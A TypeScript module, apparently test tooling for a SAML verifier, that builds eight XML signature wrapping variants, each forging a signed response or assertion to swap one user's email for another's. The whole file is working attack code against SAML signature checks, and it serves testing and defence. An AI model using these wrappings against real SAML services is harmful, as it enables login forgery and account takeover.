/**
 * Signature wrapping, in the eight known forms of the attack: the signed node is kept somewhere in the document, so
 * that its signature still verifies, and another node is where a careless reader looks.
 */

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;

function cut(xml: string, pattern: RegExp): string {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error("nothing to wrap");
  return found;
}

function forged(xml: string): string {
  return xml.replaceAll("ada@example.com", "owner@example.com");
}

function evilTwin(assertion: string): string {
  return forged(assertion).replace(SIGNATURE, "").replace('ID="_assertion"', 'ID="_evil"');
}

/** From a response that is itself signed. */
export const RESPONSE_WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "1: the signed response inside the signature of a forged one": (xml) => {
    const signature = cut(xml, SIGNATURE);
    const inner = signature.replace("</ds:Signature>", `${xml.replace(signature, "")}</ds:Signature>`);
    return forged(xml.replace(signature, inner).replace('ID="_response"', 'ID="_evil"')).replace(
      forged(xml.replace(signature, "")),
      xml.replace(signature, ""),
    );
  },
  "2: the signed response beside the signature of a forged one": (xml) => {
    const signature = cut(xml, SIGNATURE);
    const bare = xml.replace(signature, "");
    return forged(bare)
      .replace('ID="_response"', 'ID="_evil"')
      .replace("</samlp:Response>", `${bare}${signature}</samlp:Response>`);
  },
};

/** From a response whose assertion is signed. */
export const ASSERTION_WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "3: a forged assertion before the signed one": (xml) => {
    const assertion = cut(xml, ASSERTION);
    return xml.replace(assertion, evilTwin(assertion) + assertion);
  },
  "4: a forged assertion around the signed one": (xml) => {
    const assertion = cut(xml, ASSERTION);
    return xml.replace(
      assertion,
      evilTwin(assertion).replace("</saml:Assertion>", `${assertion}</saml:Assertion>`),
    );
  },
  "5: the signature inside a forged assertion, the signed one at the end": (xml) => {
    const assertion = cut(xml, ASSERTION);
    const signature = cut(xml, SIGNATURE);
    const evil = evilTwin(assertion).replace("<saml:Subject>", `${signature}<saml:Subject>`);
    return xml.replace(assertion, evil + assertion.replace(signature, ""));
  },
  "6: the signed assertion inside the signature of a forged one": (xml) => {
    const assertion = cut(xml, ASSERTION);
    const signature = cut(xml, SIGNATURE);
    const holding = signature.replace(
      "</ds:Signature>",
      `${assertion.replace(signature, "")}</ds:Signature>`,
    );
    return xml.replace(assertion, evilTwin(assertion).replace("<saml:Subject>", `${holding}<saml:Subject>`));
  },
  "7: a forged assertion with the same id inside extensions": (xml) => {
    const assertion = cut(xml, ASSERTION);
    const evil = forged(assertion).replace(SIGNATURE, "");
    return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  "8: the signed assertion inside an object of a forged one's signature": (xml) => {
    const assertion = cut(xml, ASSERTION);
    const signature = cut(xml, SIGNATURE);
    const object = `<ds:Object>${assertion.replace(signature, "")}</ds:Object></ds:Signature>`;
    const holding = signature.replace("</ds:Signature>", object);
    const evil = forged(assertion)
      .replace(SIGNATURE, "")
      .replace("<saml:Subject>", `${holding}<saml:Subject>`);
    return xml.replace(assertion, evil);
  },
};
